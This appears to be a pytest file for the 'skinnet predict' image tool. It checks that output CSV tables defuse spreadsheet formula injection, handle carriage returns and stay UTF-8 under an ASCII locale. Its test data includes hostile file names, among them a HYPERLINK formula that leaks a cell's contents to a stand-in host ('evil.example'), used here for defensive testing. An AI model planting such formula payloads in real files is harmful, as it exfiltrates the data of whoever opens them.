"""``skinnet predict``'s tables for hostile and unusual file names, in an ASCII locale: what Excel would run is
neutralised, a carriage return neither splits a row nor loses an image, and the tables are UTF-8."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

from PIL import Image

from skinnet.data.tables import read_csv

NAMES = ["=HYPERLINK(\"evil.example?leak=\"&A2,\"open\")", "+SUM(1,2)", "-2+3", "@cmd", "\tlead", "a\rb", "\rlead",
         "läsion", "ISIC_0000000"]


def test_formula_names_carriage_returns_and_non_ascii_names_in_an_ascii_locale(tiny_model: Path, sample_data: Path,
                                                                               tmp_path: Path) -> None:
    folder, out, results = tmp_path / "in", tmp_path / "out", tmp_path / "results.csv"
    folder.mkdir()
    sources = sorted((sample_data / "images").glob("*.jpg"))
    for name, source in zip(NAMES, sources, strict=False):
        Image.open(source).resize((80, 60)).save(folder / f"{name}.jpg")
    # An ASCII locale, neither coerced to UTF-8 (PEP 538) nor in UTF-8 mode (PEP 540): open() would write ASCII.
    env = {**os.environ, "OMP_NUM_THREADS": "1", "NO_ALBUMENTATIONS_UPDATE": "1", "LC_ALL": "C", "LANG": "C",
           "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
    check = subprocess.run([sys.executable, "-c", "import locale; print(locale.getpreferredencoding(False))"],
                           env=env, capture_output=True, text=True)
    assert check.stdout.strip() == "ANSI_X3.4-1968"
    done = subprocess.run([sys.executable, "-m", "skinnet", "predict", str(folder), "--out", str(out), "--model",
                           str(tiny_model), "--device", "cpu", "--overlay", "--measurements", str(results),
                           "--progress", "off"], env=env, capture_output=True, timeout=600)
    assert done.returncode == 0, done.stderr.decode(errors="replace")[-3000:]
    for table in (out / "predictions.csv", results):
        text = table.read_bytes().decode("utf-8")  # UTF-8, not the locale's ASCII
        assert "läsion" in text
        with open(table, newline="", encoding="utf-8") as handle:
            raw = list(csv.reader(handle))
        assert len(raw) == len(NAMES) + 1  # one row per image: no \r split a row, none was lost
        for cell in (cell for row in raw[1:] for cell in row):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (cell.startswith("-") and
                                                                             not cell.lstrip("-")[:1].isdigit())
        assert sorted(row["id"] for row in read_csv(table)[1]) == sorted(NAMES)  # read back as they were
    rows = {row["id"]: row for row in read_csv(out / "predictions.csv")[1]}
    assert rows["a\rb"]["overlay"] == "a\rb_overlay.png" and (out / "a\rb_overlay.png").is_file()
    assert rows["=HYPERLINK(\"evil.example?leak=\"&A2,\"open\")"]["status"] == "ok"
